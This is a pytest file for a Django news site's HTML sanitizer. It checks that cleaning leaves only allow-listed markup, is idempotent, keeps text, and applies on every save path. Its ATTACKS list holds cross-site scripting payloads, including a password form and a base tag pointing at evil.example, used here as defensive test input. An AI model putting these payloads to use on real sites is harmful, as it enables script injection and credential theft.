"""Rich text on its way in: nothing but the allow-list, the same twice, and no text lost."""

import re
from html import unescape
from html.parser import HTMLParser

import pytest
from django.utils import timezone
from hypothesis import given
from hypothesis import strategies as st

from news.models import Edition
from news.richtext.figures import image_ids
from richtext import allowlist
from richtext.cleaning import clean
from tests import factories
from tests.conftest import Cast
from vietnamese.text import nfc

ATTACKS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href='jav&#x09;ascript:alert(1)'>x</a>",
    "<a href=' data:text/html;base64,PHNjcmlwdD4='>x</a>",
    "<a href='vbscript:x'>x</a>",
    "<p onclick=alert(1) style='background:url(javascript:1)' class=x id=y>x</p>",
    "<iframe src='//evil.example'></iframe>",
    "<object data=x></object><embed src=x>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<form action=//evil.example><input name=password><button>x</button></form>",
    "<base href=//evil.example><meta http-equiv=refresh content=0><link rel=stylesheet href=//e>",
    "<!--<script>alert(1)</script>-->",
    "<figure data-image='1 onclick=x'><figcaption onmouseover=alert(1)>x</figcaption></figure>",
    "<figure data-image=1 data-alt='\"><script>alert(1)</script>'></figure>",
    "<table background=javascript:x><td colspan=9e9 rowspan=-1 scope=evil>x</td></table>",
    "<?<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<p title=x lang=x dir=rtl>x</p>",
    "<template><script>alert(1)</script></template>",
    "<p>a\x00b\u202ec</p>",
]


class Audit(HTMLParser):
    """Reads HTML and notes everything that the allow-list doesn't name."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.foreign: list[str] = []
        self.text: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        allowed = allowlist.TAGS.get(tag)
        if allowed is None:
            self.foreign.append(tag)
            return
        for name, value in attrs:
            if name not in allowed and (tag, name) != ("a", "rel"):
                self.foreign.append(f"{tag}[{name}]")
            if name == "href" and re.match(r"\s*[\w+.-]+:", value or ""):
                scheme = (value or "").split(":")[0].strip().lower()
                if scheme not in allowlist.URL_SCHEMES:
                    self.foreign.append(f"{scheme}:")

    def handle_comment(self, data: str) -> None:
        self.foreign.append("comment")

    def handle_data(self, data: str) -> None:
        self.text.append(data)


def audit(html: str) -> Audit:
    reader = Audit()
    reader.feed(html)
    reader.close()
    return reader


tag_names = st.sampled_from(
    [*allowlist.TAGS, "script", "style", "img", "svg", "div", "span", "math", "textarea", "title", "b", "h1"]
)
attributes = st.sampled_from(
    [
        "",
        " href='javascript:x'",
        " href='/tin-tuc/'",
        " onclick=x",
        ' data-image="12"',
        ' data-image="x"',
        " style='x'",
        ' data-alt="a&quot;b<c>"',
        " colspan=2",
    ]
)
words = st.text(alphabet=st.characters(codec="utf-8", exclude_characters="\r"), max_size=12)
pieces = st.one_of(
    words,
    st.builds("<{}{}>".format, tag_names, attributes),
    st.builds("</{}>".format, tag_names),
    st.sampled_from(
        [*ATTACKS, "<!--", "-->", "<![CDATA[", "]]>", "&lt;script&gt;", "&amp;amp;", "&#0;", "<", ">", '"']
    ),
)
markup = st.lists(pieces, max_size=12).map("".join)


@given(markup)
def test_cleaning_lets_nothing_through_and_changes_nothing_the_second_time(html: str) -> None:
    cleaned = clean(html)
    assert audit(cleaned).foreign == []
    assert clean(cleaned) == cleaned


@pytest.mark.parametrize("html", ATTACKS)
def test_known_attacks_are_disarmed(html: str) -> None:
    cleaned = clean(html)
    assert audit(cleaned).foreign == []
    assert "alert" not in re.sub(r'data-alt="[^"]*"', "", cleaned)
    assert clean(cleaned) == cleaned


@given(
    st.lists(
        st.tuples(st.sampled_from(["p", "h2", "strong", "b", "span", "font", "blockquote", "center"]), words),
        max_size=8,
    )
)
def test_no_text_is_lost(blocks: list[tuple[str, str]]) -> None:
    from django.utils.html import escape

    html = "".join(f"<{tag}>{escape(text)}</{tag}>" for tag, text in blocks)
    # The parser of HTML itself replaces what no document may hold.
    expected = nfc("".join(text for _, text in blocks)).replace("\x00", "")
    assert unescape("".join(audit(clean(html)).text)) == unescape(expected)


def test_text_is_stored_in_one_form() -> None:
    assert clean("<p>Hòa bình</p>") == "<p>Hòa bình</p>"


def test_links_say_that_they_lead_outside() -> None:
    assert (
        clean('<a href="https://example.vn">x</a>')
        == '<a href="https://example.vn" rel="noopener noreferrer nofollow">x</a>'
    )


DIRTY = '<p onclick="x">Tin <b>mới</b><script>alert(1)</script></p>'
CLEAN = "<p>Tin mới</p>"


def stored(edition: Edition) -> str:
    return Edition.objects.get(pk=edition.pk).body


def test_every_way_into_the_database_cleans(cast: Cast) -> None:
    edition = factories.draft(cast.department, cast.writer, body=DIRTY)
    assert stored(edition) == edition.body == CLEAN, "an act leaves on the object what is stored"

    edition.body = DIRTY + "<p>save</p>"
    edition.save()
    assert stored(edition) == edition.body == CLEAN + "<p>save</p>"

    Edition.objects.filter(pk=edition.pk).update(body=DIRTY)
    assert stored(edition) == CLEAN

    edition.body = DIRTY
    Edition.objects.bulk_update([edition], ["body"])
    assert stored(edition) == CLEAN

    other = factories.draft(cast.department, cast.writer)
    copy = Edition(
        **{field.attname: getattr(other, field.attname) for field in Edition._meta.fields if not field.primary_key}
    )
    copy.number, copy.body, copy.state = 2, DIRTY, "discarded"
    (made,) = Edition.objects.bulk_create([copy])
    assert stored(made) == CLEAN


def test_a_form_cleans() -> None:
    assert Edition._meta.get_field("body").formfield().clean(DIRTY) is not None
    assert Edition._meta.get_field("body").to_python(DIRTY) == CLEAN


def test_which_pictures_a_text_shows_is_kept_in_step(cast: Cast) -> None:
    from news.pictures import library

    now = timezone.now()
    first, second = (
        library.add(factories.jpeg(), department=cast.department, by=cast.writer, now=now, alt="Cầu") for _ in range(2)
    )
    body = f'<figure data-image="{first.pk}"></figure><figure data-image="999999"></figure>'
    edition = factories.draft(cast.department, cast.writer, body=body, cover=second)
    assert image_ids(edition.body) == [first.pk, 999999]
    assert sorted(edition.image_uses.values_list("image", "place")) == [(first.pk, "body"), (second.pk, "cover")]
